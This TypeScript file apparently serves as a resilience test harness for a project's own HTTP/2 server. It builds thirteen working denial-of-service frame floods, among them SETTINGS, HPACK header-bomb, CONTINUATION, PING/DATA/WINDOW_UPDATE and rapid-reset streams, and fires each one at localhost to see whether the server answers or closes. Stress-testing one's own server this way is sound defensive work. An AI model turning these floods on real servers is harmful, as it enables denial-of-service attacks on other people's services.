/**
 * Attacks of one HTTP/2 client on a server: frames that cost the server far more than the client. An attack opens streams,
 * sends its frames at once, and ends when the server has answered a PING sent after them, or has closed the connection.
 */
import { connect } from "node:net";
import { FrameFlag, FrameType, PREFACE } from "../../src/wire/http2/frames.ts";
import { encodeFields, type HeaderField } from "../../src/wire/http2/hpack.ts";
import { frame, settings, windowUpdate } from "../../test/wire/http2/peer.ts";
import { accepts } from "./servers.ts";

/** Types of the server's frames that end an attack. */
const GOAWAY = FrameType.GoAway;
const PONG = FrameType.Ping;
const MOST_MS = 60_000;
/** Number of streams that a server permits on one connection. */
const STREAMS = 16_384;

export interface Http2Attack {
  readonly name: string;
  /** Number of streams to open before the attack. */
  readonly streams: number;
  /** The frames of the attack; streams have the ids 1, 3, 5 and so on. */
  readonly frames: (path: string) => Buffer;
}

const repeated = (count: number, make: (at: number) => Buffer) =>
  Buffer.concat(Array.from({ length: count }, (_, at) => make(at)));
const idOf = (at: number) => 2 * at + 1;
/** Returns a payload of one 32-bit number. */
function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

const requestOf = (path: string): HeaderField[] => [
  [":method", "POST"],
  [":scheme", "http"],
  [":path", path],
  [":authority", "x"],
  ["content-type", path.startsWith("/v1/") ? "application/json" : "application/grpc"],
];
const heading = (id: number, block: Uint8Array, ends = false): Buffer =>
  frame(FrameType.Headers, FrameFlag.EndHeaders | (ends ? FrameFlag.EndStream : 0), id, block);

/** Returns a literal field named `x` with a value of about `bytes` bytes of Huffman code, 5 bits per letter. */
function huffmanField(bytes: number): Buffer {
  const length = bytes - (bytes % 5);
  const value = repeated(length / 5, () => Buffer.from([0x18, 0xc6, 0x31, 0x8c, 0x63]));
  const rest = length - 0x7f;
  return Buffer.concat([Buffer.from([0, 1, 0x78, 0xff, 0x80 | (rest % 128), rest >> 7]), value]);
}
/** A literal field whose name and value are one letter in Huffman code. */
const SHORT_FIELD = Buffer.from([0x00, 0x81, 0x1f, 0x81, 0x1f]);
/** A field that enters the dynamic table, so that an older field leaves the table. */
const INSERTED_FIELD = Buffer.from([0x40, 0x81, 0x1f, 0x00]);
const BLOCK_BYTES = 15_000;
const filled = (unit: Buffer, bytes = BLOCK_BYTES) => repeated(Math.floor(bytes / unit.length), () => unit);

/** Returns a full SETTINGS frame that sets INITIAL_WINDOW_SIZE to each of the values in turn. */
const windowSettings = (...values: readonly number[]) =>
  settings(...Array.from({ length: 2730 }, (_, at) => [4, values[at % values.length]!] as const));

/** An attack of many frames on open streams, in turn. */
const onStreams = (name: string, count: number, make: (id: number, at: number) => Buffer): Http2Attack => ({
  name,
  streams: STREAMS,
  frames: () => repeated(count, (at) => make(idOf(at % STREAMS), at)),
});
/** An attack that opens 64 streams with a large header block each. */
const withBlocks = (name: string, rest: Buffer): Http2Attack => ({
  name: `64 header blocks${name}`,
  streams: 0,
  frames: (path) => {
    const block = Buffer.concat([encodeFields(requestOf(path)), rest]);
    return repeated(64, (at) => heading(idOf(at), block, true));
  },
});
/** Returns a request whose fields are in 64 CONTINUATION frames. */
function continued(path: string, id: number): Buffer {
  const first = frame(FrameType.Headers, FrameFlag.EndStream, id, encodeFields(requestOf(path)));
  const part = (flags: number) => frame(FrameType.Continuation, flags, id, filled(SHORT_FIELD, 500));
  return Buffer.concat([first, repeated(62, () => part(0)), part(FrameFlag.EndHeaders)]);
}
const reset = (id: number) => frame(FrameType.RstStream, 0, id, uint32(8));

export const HTTP2_ATTACKS: readonly Http2Attack[] = [
  onStreams("31 SETTINGS frames full of windows", 31, () => windowSettings(65_535, 65_536)),
  onStreams("40,000 SETTINGS frames of one window", 40_000, (_, at) => settings([4, 65_535 + (at % 2)])),
  withBlocks(", each one long value", huffmanField(BLOCK_BYTES)),
  withBlocks(" of short fields", filled(SHORT_FIELD)),
  withBlocks(" of inserted fields", filled(INSERTED_FIELD)),
  withBlocks(" that repeat an entry", Buffer.alloc(5000, 0x80 | 19)),
  {
    name: "128 header blocks in 64 CONTINUATION frames each",
    streams: 0,
    frames: (path) => repeated(128, (at) => continued(path, idOf(at))),
  },
  onStreams("200,000 WINDOW_UPDATE frames", 200_000, (id) => windowUpdate(id, 1)),
  onStreams("200,000 PRIORITY frames", 200_000, (id) => frame(FrameType.Priority, 0, id, Buffer.of(0, 0, 0, 0, 1))),
  onStreams("RST_STREAM of all streams", STREAMS, reset),
  onStreams("200,000 empty DATA frames", 200_000, (id) => frame(FrameType.Data, 0, id)),
  onStreams("200,000 PING frames", 200_000, () => frame(FrameType.Ping, 0, 0, Buffer.alloc(8))),
  {
    name: "20,000 requests that are reset at once",
    streams: 0,
    frames: (path) => {
      const block = encodeFields(requestOf(path));
      return repeated(20_000, (at) => Buffer.concat([heading(idOf(at), block), reset(idOf(at))]));
    },
  },
];

/** Runs the attack against a port of 127.0.0.1. Resolves with its end. Without an end the connection is closed after a minute. */
export async function attack(
  { name, streams, frames }: Http2Attack,
  port: number,
  path: string,
): Promise<"answered" | "closed"> {
  // Generated before connecting, because the server closes a connection that has no stream for a while.
  const block = encodeFields(requestOf(path));
  const opening = Buffer.concat([PREFACE, settings(), repeated(streams, (at) => heading(idOf(at), block))]);
  const attacking = frames(path);
  // The server opens this port just after the one whose /health says that it is ready.
  while (!(await accepts(port))) await Bun.sleep(1);
  const socket = connect({ port, host: "127.0.0.1" });
  const { promise: closed, resolve: close } = Promise.withResolvers<"closed">();
  let answered = () => {};
  let rest = Buffer.alloc(0);
  socket.on("data", (data: Buffer) => {
    rest = Buffer.concat([rest, data]);
    let at = 0;
    for (; rest.length - at >= 9 && rest.length - at >= 9 + rest.readUIntBE(at, 3); at += 9 + rest.readUIntBE(at, 3)) {
      if (rest[at + 3] === GOAWAY) close("closed");
      if (rest[at + 3] === PONG && rest[at + 9] === 1) answered();
    }
    rest = rest.subarray(at);
  });
  socket.on("error", () => close("closed"));
  socket.on("close", () => close("closed"));
  /** Sends bytes, and waits until the server has read all of them. */
  const sent = (bytes: Buffer) => {
    const pong = new Promise<"answered">((resolve) => (answered = () => resolve("answered")));
    socket.write(Buffer.concat([bytes, frame(FrameType.Ping, 0, 0, Buffer.of(1, 0, 0, 0, 0, 0, 0, 0))]));
    return Promise.race([pong, closed]);
  };
  const late = setTimeout(() => socket.destroy(), MOST_MS);
  try {
    if ((await sent(opening)) === "closed") throw new Error(`${name}: closed before the attack`);
    return await sent(attacking);
  } finally {
    clearTimeout(late);
    socket.resetAndDestroy();
  }
}
